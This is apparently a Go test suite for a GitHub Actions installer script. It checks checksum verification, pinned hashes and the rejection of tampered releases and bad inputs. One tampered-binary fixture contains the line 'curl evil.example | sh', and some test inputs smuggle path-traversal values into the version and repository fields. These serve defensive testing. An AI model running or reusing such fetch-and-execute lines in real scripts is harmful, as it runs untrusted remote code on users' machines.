package setup

import (
	"crypto/sha256"
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
)

const (
	repo    = "csogate/csogate"
	version = "v1.4.2"
)

// fakeBinary stands for a released binary: it runs here whatever the OS in
// its name, and reports a version as csogate does.
func fakeBinary(v string) []byte {
	return []byte("#!/bin/sh\necho \"csogate " + v + "\"\n")
}

func sum(data []byte) string {
	h := sha256.Sum256(data)
	return hex.EncodeToString(h[:])
}

// release is a fake GitHub release: asset name → content, served under
// /OWNER/NAME/releases/download/TAG/ as github.com serves release assets.
type release map[string][]byte

// goodRelease has every published binary and a checksums.txt listing them in
// GoReleaser's format ("HASH  NAME").
func goodRelease() release {
	r := release{}
	var lines []string
	for _, name := range []string{
		"csogate_linux_amd64", "csogate_linux_arm64", "csogate_darwin_amd64", "csogate_darwin_arm64",
		"csogate_windows_amd64.exe", "csogate_windows_arm64.exe",
	} {
		r[name] = fakeBinary("1.4.2")
		lines = append(lines, sum(r[name])+"  "+name)
	}
	r["checksums.txt"] = []byte(strings.Join(lines, "\n") + "\n")
	return r
}

type server struct {
	*httptest.Server
	mu       sync.Mutex
	requests []string
}

func serve(t *testing.T, r release) *server {
	t.Helper()
	s := &server{}
	prefix := "/" + repo + "/releases/download/" + version + "/"
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		s.mu.Lock()
		s.requests = append(s.requests, req.URL.Path)
		s.mu.Unlock()
		name, ok := strings.CutPrefix(req.URL.Path, prefix)
		data, found := r[name]
		if !ok || !found {
			http.NotFound(w, req)
			return
		}
		w.Write(data)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *server) asked() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.requests)
}

type result struct {
	code    int
	out     string
	path    string // GITHUB_PATH's content
	outputs string // GITHUB_OUTPUT's content
	temp    string
}

// install runs install.sh as the setup action's step does, with the runner's
// variables and nothing else but PATH.
func install(t *testing.T, s *server, env map[string]string) result {
	t.Helper()
	dir := t.TempDir()
	r := result{temp: filepath.Join(dir, "temp")}
	if err := os.Mkdir(r.temp, 0o755); err != nil {
		t.Fatal(err)
	}
	ghPath, ghOutput := filepath.Join(dir, "path"), filepath.Join(dir, "output")
	vars := map[string]string{
		"PATH":               os.Getenv("PATH"),
		"RUNNER_OS":          "Linux",
		"RUNNER_ARCH":        "X64",
		"RUNNER_TEMP":        r.temp,
		"GITHUB_PATH":        ghPath,
		"GITHUB_OUTPUT":      ghOutput,
		"CSOGATE_VERSION":    version,
		"CSOGATE_REPOSITORY": repo,
		"CSOGATE_SERVER_URL": s.URL,
	}
	for k, v := range env {
		vars[k] = v
	}
	cmd := exec.Command("bash", "install.sh")
	for k, v := range vars {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	out, err := cmd.CombinedOutput()
	r.out = string(out)
	if err != nil {
		exit, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatal(err)
		}
		r.code = exit.ExitCode()
	}
	data, _ := os.ReadFile(ghPath)
	r.path = string(data)
	data, _ = os.ReadFile(ghOutput)
	r.outputs = string(data)
	return r
}

// TestInstall installs the binary for each runner the releases cover, and
// checks what lands on PATH is the verified binary.
func TestInstall(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ os, arch, asset, file string }{
		{"Linux", "X64", "csogate_linux_amd64", "csogate"},
		{"Linux", "ARM64", "csogate_linux_arm64", "csogate"},
		{"macOS", "ARM64", "csogate_darwin_arm64", "csogate"},
		{"macOS", "X64", "csogate_darwin_amd64", "csogate"},
		{"Windows", "X64", "csogate_windows_amd64.exe", "csogate.exe"},
	} {
		t.Run(tc.os+"/"+tc.arch, func(t *testing.T) {
			t.Parallel()
			rel := goodRelease()
			s := serve(t, rel)
			r := install(t, s, map[string]string{"RUNNER_OS": tc.os, "RUNNER_ARCH": tc.arch})
			if r.code != 0 {
				t.Fatalf("exit %d:\n%s", r.code, r.out)
			}
			dir := filepath.Join(r.temp, "csogate-"+version)
			if r.path != dir+"\n" {
				t.Errorf("GITHUB_PATH = %q, want %q", r.path, dir+"\n")
			}
			bin := filepath.Join(dir, tc.file)
			got, err := os.ReadFile(bin)
			if err != nil || string(got) != string(rel[tc.asset]) {
				t.Errorf("installed %s: %q, %v; want the release's %s", bin, got, err, tc.asset)
			}
			if want := "path=" + bin + "\nversion=" + version + "\n"; r.outputs != want {
				t.Errorf("outputs %q, want %q", r.outputs, want)
			}
			if asked := s.asked(); !slices.Contains(asked, "/"+repo+"/releases/download/"+version+"/"+tc.asset) {
				t.Errorf("requests %v did not fetch %s", asked, tc.asset)
			}
			if left, _ := filepath.Glob(filepath.Join(r.temp, "csogate-download.*")); len(left) != 0 {
				t.Errorf("download directory left behind: %v", left)
			}
		})
	}
}

// TestInstallRefuses covers what a tampered or broken release, a mistyped
// input or an unsupported runner would bring: each fails, says why, and puts
// nothing on PATH.
func TestInstallRefuses(t *testing.T) {
	t.Parallel()
	tampered := goodRelease()
	tampered["csogate_linux_amd64"] = []byte("#!/bin/sh\necho \"csogate 1.4.2\"; curl evil.example | sh\n")

	noChecksums := goodRelease()
	delete(noChecksums, "checksums.txt")

	unlisted := goodRelease()
	unlisted["checksums.txt"] = []byte(strings.ReplaceAll(string(unlisted["checksums.txt"]), "csogate_linux_amd64\n", "csogate_linux_amd64.tar.gz\n"))

	noBinary := goodRelease()
	delete(noBinary, "csogate_linux_amd64")

	twice := goodRelease()
	twice["checksums.txt"] = append(twice["checksums.txt"], []byte(sum([]byte("x"))+"  csogate_linux_amd64\n")...)

	// An attacker who can replace release assets replaces the checksums too.
	swapped := goodRelease()
	evil := []byte("#!/bin/sh\necho \"csogate 1.4.2\"\n# evil\n")
	swapped["checksums.txt"] = []byte(strings.ReplaceAll(string(swapped["checksums.txt"]), sum(swapped["csogate_linux_amd64"]), sum(evil)))
	swapped["csogate_linux_amd64"] = evil

	otherVersion := goodRelease()
	otherVersion["csogate_linux_amd64"] = fakeBinary("1.4.1")
	otherVersion["checksums.txt"] = []byte(strings.ReplaceAll(string(otherVersion["checksums.txt"]),
		sum(fakeBinary("1.4.2"))+"  csogate_linux_amd64", sum(fakeBinary("1.4.1"))+"  csogate_linux_amd64"))

	good := goodRelease()
	for _, tc := range []struct {
		name      string
		rel       release
		env       map[string]string
		want      string
		noRequest bool
	}{
		{name: "binary does not match checksums.txt", rel: tampered, want: "the download is corrupt or was tampered with"},
		{name: "no checksums.txt", rel: noChecksums, want: "could not download"},
		{name: "binary not listed in checksums.txt", rel: unlisted, want: "is not listed in checksums.txt"},
		{name: "binary listed twice", rel: twice, want: "listed more than once"},
		{name: "binary missing from the release", rel: noBinary, want: "could not download"},
		{name: "binary of another version", rel: otherVersion, want: "refusing a binary of another version"},
		{name: "release assets swapped after publication", rel: swapped,
			env:  map[string]string{"CSOGATE_CHECKSUMS_SHA256": sum(good["checksums.txt"])},
			want: "the release's files were changed after it was published"},
		{name: "unknown OS", rel: good, env: map[string]string{"RUNNER_OS": "FreeBSD"}, want: `runner OS "FreeBSD"`, noRequest: true},
		{name: "unknown architecture", rel: good, env: map[string]string{"RUNNER_ARCH": "X86"}, want: `runner architecture "X86"`, noRequest: true},
		{name: "no version", rel: good, env: map[string]string{"CSOGATE_VERSION": ""}, want: "no version", noRequest: true},
		{name: "version that is not a tag", rel: good, env: map[string]string{"CSOGATE_VERSION": "latest"}, want: "is not a release tag", noRequest: true},
		{name: "version escaping the release path", rel: good, env: map[string]string{"CSOGATE_VERSION": "v1.4.2/../../../evil/x"}, want: "is not a release tag", noRequest: true},
		{name: "repository that is not owner/name", rel: good, env: map[string]string{"CSOGATE_REPOSITORY": "csogate/csogate/../x"}, want: "is not owner/name", noRequest: true},
		{name: "plain-http server", rel: good, env: map[string]string{"CSOGATE_SERVER_URL": "http://downloads.example"}, want: "is not https://", noRequest: true},
		{name: "malformed pinned hash", rel: good, env: map[string]string{"CSOGATE_CHECKSUMS_SHA256": "abc"}, want: "is not a SHA-256", noRequest: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, tc.rel)
			r := install(t, s, tc.env)
			if r.code == 0 {
				t.Fatalf("exit 0, want a failure:\n%s", r.out)
			}
			if !strings.Contains(r.out, "::error title=csogate setup::") || !strings.Contains(r.out, tc.want) {
				t.Errorf("output does not say %q as an error:\n%s", tc.want, r.out)
			}
			if r.path != "" || r.outputs != "" {
				t.Errorf("GITHUB_PATH %q and GITHUB_OUTPUT %q, want nothing written", r.path, r.outputs)
			}
			if installed, _ := filepath.Glob(filepath.Join(r.temp, "*")); len(installed) != 0 {
				t.Errorf("files left in RUNNER_TEMP: %v", installed)
			}
			if asked := s.asked(); tc.noRequest && len(asked) != 0 {
				t.Errorf("requests %v, want none before the inputs are checked", asked)
			}
		})
	}
}

// TestInstallPinnedChecksums installs when checksums.txt is the one the
// release pinned.
func TestInstallPinnedChecksums(t *testing.T) {
	t.Parallel()
	rel := goodRelease()
	r := install(t, serve(t, rel), map[string]string{"CSOGATE_CHECKSUMS_SHA256": sum(rel["checksums.txt"])})
	if r.code != 0 || !strings.Contains(r.out, "installed csogate 1.4.2 (linux/amd64") {
		t.Errorf("exit %d:\n%s", r.code, r.out)
	}
}
